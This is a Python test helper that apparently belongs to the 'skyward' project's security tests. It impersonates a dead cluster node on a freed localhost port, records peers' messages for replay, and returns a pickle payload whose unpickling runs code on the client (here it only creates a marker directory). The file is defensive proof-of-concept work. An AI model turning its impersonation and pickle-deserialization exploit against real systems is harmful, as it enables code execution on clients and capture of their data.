"""An impostor on a dead node's port: ``python impostor.py MODE PORT NODE_NAME RECORD MARKER``.

What a local account can do once a node's worker has died and freed its 127.0.0.1 port (issue 12):
- ``plain``: a real casty system named like the node, hosting skyward's own actor and messages, without TLS;
- ``own-tls``: the same, with TLS certificates of its own making (another pool's, the best an outsider has);
- ``raw``: a TCP listener that records every byte a peer sends, to replay them.
It records what it receives in RECORD (pickles, one per message; raw bytes for ``raw``) and answers every task
with a reply whose unpickling creates the directory MARKER: on the client, that is code of the attacker's
choosing running there. Prints ``ready`` once it listens.
"""

from __future__ import annotations

import asyncio
import os
import pickle
import socket
import sys

from casty import ActorSystem, Cluster

from skyward import reply as replies
from skyward import transport, wire


class MakeDirOnUnpickle:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.mkdir, (self.path,))


class Evil:
    """Answers skyward's messages, whatever fields this version of them has (the reply callable comes last)."""

    def __init__(self, record: str, marker: str) -> None:
        self._record = record
        self._reply = bytes([replies.STATUS_OK]) + wire.frame(pickle.dumps(MakeDirOnUnpickle(marker)))

    def _keep(self, kind: str, fields: tuple[object, ...]) -> None:
        with open(self._record, "ab") as f:
            pickle.dump((kind, fields), f)

    def run(self, *args: object) -> None:
        *fields, reply = args
        self._keep("RunTask", tuple(fields))
        reply(self._reply)  # type: ignore[operator]

    def put_blob(self, *fields: object) -> bool:
        self._keep("PutBlob", fields)
        return True

    def cancel(self, *fields: object) -> int:
        self._keep("CancelTasks", fields)
        return 0

    def heartbeat(self, *fields: object) -> bool:
        self._keep("Heartbeat", fields)
        return True


async def serve_casty(port: int, node_name: str, tls_dir: str | None, evil: Evil) -> None:
    advertise = transport.advertised_address(node_name, port)
    if hasattr(transport, "_served"):  # this version checks the actor key: answer on the node's own key
        transport._served = transport._Served(evil, f"@{advertise}/{transport._ACTOR_KEY}")  # type: ignore[attr-defined]
    else:
        transport._handler = evil  # type: ignore[attr-defined]
    tls = None
    if tls_dir is not None:
        from casty import TLS

        from skyward.credentials import node_material

        material = node_material(os.urandom(32), node_name)  # a pool of its own: the client CA is not ours
        paths = {}
        for name in ("cert", "key"):
            paths[name] = os.path.join(tls_dir, name + ".pem")
            with open(paths[name], "w") as f:  # noqa: ASYNC230 - before the system starts
                f.write(getattr(material, name))
        # Accepts any client: only the client's check of the node's certificate can stop it.
        tls = TLS(cert=paths["cert"], key=paths["key"], ca=None, require_client_cert=False)
    cluster = Cluster(
        bind=f"127.0.0.1:{port}",
        advertise=advertise,
        name=transport.CLUSTER_NAME,
        limits=transport.LIMITS,
        compression=transport.COMPRESSION,
        tls=tls,
    )
    async with ActorSystem(cluster=cluster):
        print("ready", flush=True)
        await asyncio.Event().wait()


def serve_raw(port: int, record: str) -> None:
    with socket.socket() as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("127.0.0.1", port))
        server.listen()
        print("ready", flush=True)
        while True:
            conn, _ = server.accept()
            conn.settimeout(2)
            with conn:
                try:
                    while data := conn.recv(65536):
                        with open(record, "ab") as f:
                            f.write(data)
                except OSError:
                    pass


def main() -> None:
    mode, port, node_name, record, marker = sys.argv[1:6]
    if mode == "raw":
        serve_raw(int(port), record)
        return
    tls_dir = os.path.dirname(record) if mode == "own-tls" else None
    asyncio.run(serve_casty(int(port), node_name, tls_dir, Evil(record, marker)))


if __name__ == "__main__":
    main()
